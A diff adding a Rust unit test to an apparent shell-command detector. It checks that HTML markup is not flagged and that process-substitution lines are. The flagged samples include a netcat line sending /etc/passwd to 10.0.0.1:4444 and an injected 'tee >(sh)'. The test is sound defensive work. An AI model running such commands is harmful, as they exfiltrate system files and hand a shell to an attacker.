@@ -964,3 +964,20 @@ fn markup_man_pages_and_mentions_are_not_command_lines() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+#[test]
+fn a_parenthesis_after_a_tag_is_text() {
+    for v in [
+        "<span class=\"hljs-built_in\">require</span>(<span class=\"s\">'node:buffer'</span>);",
+        "<b>(note)</b> see <i>(this)</i>",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "cat >(nc 10.0.0.1 4444) /etc/passwd",
+        "x;tee >(sh)",
+        "diff <(id) x",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
